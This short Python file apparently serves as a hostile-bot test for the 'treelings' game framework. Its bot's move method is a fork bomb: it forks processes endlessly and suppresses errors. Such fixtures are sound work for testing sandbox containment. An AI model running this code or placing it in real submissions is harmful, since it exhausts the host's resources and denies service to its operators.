import os
from contextlib import suppress

import treelings


class Hostile(treelings.Bot):
    def choose(self, view: treelings.View) -> treelings.Move:
        while True:
            with suppress(OSError):
                os.fork()


treelings.serve(Hostile)
